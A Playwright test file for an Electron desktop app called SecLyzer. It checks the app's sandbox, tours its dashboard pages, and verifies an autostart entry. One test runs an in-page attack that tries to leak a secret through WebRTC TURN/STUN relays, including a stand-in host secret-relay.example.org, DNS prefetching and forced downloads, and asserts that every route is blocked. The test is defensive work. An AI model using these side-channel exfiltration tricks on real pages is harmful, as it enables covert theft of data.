// The pages in the program's own window: what they may do and nothing else, no complaint from the browser on a tour of all of them, and
// a setting whose effect is found outside the program.
import { execFile } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { existsSync, readFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import path from 'node:path';
import { promisify } from 'node:util';
import { expect, test, type ElectronApplication, type Page } from 'playwright/test';
import { learn } from './learned.ts';
import { ask, openByClick, tooltipOf, windowCount } from './running-app.ts';
import { missingForStage, openStage, type Home, type Stage } from './stage.ts';

const missing = missingForStage();
test.skip(missing !== null, missing ?? '');
const VALIDATOR = '/usr/bin/desktop-file-validate';

let stage: Stage;
test.beforeAll(async () => {
  stage = await openStage();
});
test.afterEach(() => stage.clear());
test.afterAll(() => stage?.stop());

const live = (page: Page) => page.getByText('Live', { exact: true });

async function open(home: Home, args: readonly string[]): Promise<{ app: ElectronApplication; page: Page }> {
  const app = await stage.launch(home, args);
  await expect.poll(tooltipOf(stage)).toMatch(/^SecLyzer · (\d+ · )?(learning|normal)$/);
  return { app, page: await openByClick(stage, app) };
}

test('the page can do what the dashboard needs, and nothing else', async () => {
  const home = stage.home('walls');
  const { app, page } = await open(home, ['--data', home.data, '--synthetic', 'ada']);
  await expect(live(page)).toBeVisible();
  const found = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    const outcome = (promise: Promise<unknown>): Promise<string> =>
      promise.then(
        () => 'allowed',
        () => 'refused',
      );
    return {
      origin: location.origin,
      bridge: Object.keys(Reflect.get(window, 'seclyzer') as object).toSorted(),
      node: ['require', 'process', 'module', 'Buffer'].filter((name) => name in window),
      injected: 'injected' in window,
      opened: window.open('https://example.com/') !== null,
      elsewhere: await outcome(fetch('https://example.com/')),
      notifications: Notification.permission,
      camera: await outcome(navigator.mediaDevices.getUserMedia({ video: true })),
    };
  });
  expect(found).toEqual({
    origin: 'seclyzer://app',
    bridge: ['onAbsence', 'onClose', 'onMessage', 'quit', 'send', 'startAgent'],
    node: [],
    injected: false,
    opened: false,
    elsewhere: 'refused',
    notifications: 'denied',
    camera: 'refused',
  });
  await page.evaluate(() => location.assign('https://example.com/'));
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
  expect(page.url()).toMatch(/^seclyzer:\/\/app\//);
  expect(await windowCount(app)).toBe(1);
});

test('a page that somebody took over reaches nobody, whichever way it tries', async () => {
  const home = stage.home('attack');
  const heard: string[] = [];
  const udp = createSocket('udp4').on('message', () => heard.push('udp'));
  const tcp = createServer(() => heard.push('tcp'));
  udp.bind(0, '127.0.0.1');
  tcp.listen(0, '127.0.0.1');
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')]);
  const { app, page } = await open(home, ['--data', home.data, '--synthetic', 'ada']);
  await expect(live(page)).toBeVisible();
  const log = path.join(home.folder, 'net.json');
  await app.evaluate(({ session }, file) => session.defaultSession.netLog.startLogging(file), log);
  const ports = { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port };
  const candidates = await page.evaluate(attack, ports);
  const windows = await stage.desktop.screen.windows();
  await page.evaluate(() => {
    for (const href of [URL.createObjectURL(new Blob(['secret'])), 'data:text/plain,secret'])
      Object.assign(document.createElement('a'), { download: 'x', href }).click();
  });
  await app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
  expect(candidates).toEqual([]);
  expect(heard).toEqual([]);
  expect(readFileSync(log, 'utf8').match(/secret-[\w-]+\.example\.org/g)).toBeNull();
  expect((await stage.desktop.screen.windows()).length).toBe(windows.length);
  udp.close();
  tcp.close();
});

/** In the page: tells its secret to relays of calls, and in the names of hosts. @returns the ways out that it found. */
async function attack(ports: { readonly udp: number; readonly tcp: number }): Promise<readonly string[]> {
  const login = { username: 'secret', credential: 'x' };
  const iceServers = [
    { urls: `stun:127.0.0.1:${ports.udp}` },
    { urls: `turn:127.0.0.1:${ports.udp}?transport=udp`, ...login },
    { urls: `turn:127.0.0.1:${ports.tcp}?transport=tcp`, ...login },
    { urls: 'turn:secret-relay.example.org:3478', ...login },
  ];
  const found: string[] = [];
  const line = new RTCPeerConnection({ iceServers });
  line.addEventListener('icecandidate', ({ candidate }) => {
    if (candidate !== null && candidate.candidate !== '') found.push(candidate.candidate);
  });
  line.createDataChannel('x');
  await line.setLocalDescription(await line.createOffer());
  const hint = { rel: 'dns-prefetch', href: 'https://secret-name.example.org/' };
  document.head.append(Object.assign(document.createElement('link'), hint));
  await new Promise((resolve) => setTimeout(resolve, 4000));
  return found;
}

test('a tour of all pages, charts included, dark and light, without one complaint', async () => {
  const home = stage.home('tour');
  await learn('ada', home.data);
  const { app, page: first } = await open(home, ['--data', home.data, '--synthetic', 'ada']);
  await first.close();
  const complaints = await listen(app);
  const page = await openByClick(stage, app);
  await dismissWelcome(page);
  for (const scheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme: scheme });
    await tour(page, scheme);
  }
  // The listener works: this one is a violation.
  expect(complaints).toEqual([]);
  await page.evaluate(() => document.body.append(Object.assign(document.createElement('script'), { text: '0' })));
  await expect.poll(() => complaints.join('\n')).toMatch(/script-src/);
});

/** From the first line of every page that is opened from now on. */
async function listen(app: ElectronApplication): Promise<string[]> {
  const complaints: string[] = [];
  const context = app.context();
  context.on('console', (message) => {
    const isComplaint = message.type() === 'error' || message.type() === 'warning';
    if (isComplaint) complaints.push(`${message.text()} (${message.location().url})`);
  });
  context.on('weberror', (error) => complaints.push(error.error().message));
  await context.exposeFunction('violated', (what: string) => void complaints.push(what));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) => {
      const tell = Reflect.get(window, 'violated') as (what: string) => void;
      tell(`${violatedDirective}: ${blockedURI} in ${sourceFile}`);
    });
  });
  return complaints;
}

async function dismissWelcome(page: Page): Promise<void> {
  await expect(live(page)).toBeVisible();
  const understood = page.getByRole('button', { name: 'Understood' });
  if (await understood.isVisible()) await understood.click();
}

async function tour(page: Page, scheme: string): Promise<void> {
  const keep = (name: string): Promise<Buffer> =>
    page.screenshot({ path: test.info().outputPath(`${name}-${scheme}.png`), fullPage: true });
  const go = (place: string): Promise<void> => page.getByRole('link', { name: place, exact: true }).click();
  await go('Now');
  await expect(page.getByRole('heading', { level: 1, name: 'Now' })).toBeVisible();
  await expect(page.locator('svg path').first()).toBeAttached();
  await keep('now');
  await go('History');
  for (const range of ['24 h', '7 d', '30 d', '1 h']) await page.getByRole('button', { name: range }).click();
  const learned = page.getByText(/^From learning, trust \d+/).first();
  await learned.click();
  await expect(page).toHaveURL(/#\/history\?at=\d+/);
  await keep('history');
  await go('Host');
  await expect(page.getByRole('img', { name: /^Processor: busy/ })).toBeVisible();
  await keep('host');
  await go('Log guard');
  await page.getByText('Details, and the switch to turn it off').click();
  await expect(page.getByRole('switch', { name: 'Read the log of this machine' })).toBeChecked();
  await expect(page.getByText('lines a minute')).toBeVisible();
  await keep('log-guard');
  await go('You');
  await expect(page.getByText('What SecLyzer knows of you')).toBeVisible();
  await expect(page.getByText(/^Version \d+ of /).first()).toBeVisible();
  await keep('you');
  await go('Settings');
  await expect(page.getByRole('heading', { name: 'Privacy' })).toBeVisible();
  await keep('settings');
}

test('start with the session: the desktop finds a valid entry, and none when it is turned off', async () => {
  test.skip(!existsSync(VALIDATOR), 'no validator: sudo apt-get install desktop-file-utils');
  const home = stage.home('autostart');
  // The program that watches the owner: no folder and no typist of its own.
  const { app, page } = await open(home, []);
  await page.getByRole('link', { name: 'Settings', exact: true }).click();
  const toggle = page.getByRole('switch', { name: 'Start with the session' });
  await expect(toggle).not.toBeChecked();
  await expect(toggle).toBeEnabled();
  await toggle.click();
  const entry = path.join(home.config, 'autostart/seclyzer.desktop');
  await expect.poll(() => existsSync(entry)).toBe(true);
  const { stdout, stderr } = await promisify(execFile)(VALIDATOR, [entry]);
  expect(`${stdout}${stderr}`).toBe('');
  const [, command = ''] = /^Exec=(.+)$/m.exec(readFileSync(entry, 'utf8')) ?? [];
  const words = command.split(' ');
  expect(words.at(-1)).toBe('--hidden');
  const files = words.filter((word) => word.startsWith('/'));
  expect(files.length).toBeGreaterThan(0);
  expect(files.filter((file) => !existsSync(file))).toEqual([]);
  expect((await ask(app, 'settings')).settings.autostart).toBe(true);
  await page.getByRole('region', { name: 'Program' }).scrollIntoViewIfNeeded();
  await page.screenshot({ path: test.info().outputPath('autostart.png') });

  await toggle.click();
  await expect.poll(() => existsSync(entry)).toBe(false);
  const changes = (await ask(app, 'audit', { limit: 10 })).filter(({ kind }) => kind === 'setting');
  expect(changes).toHaveLength(2);
});
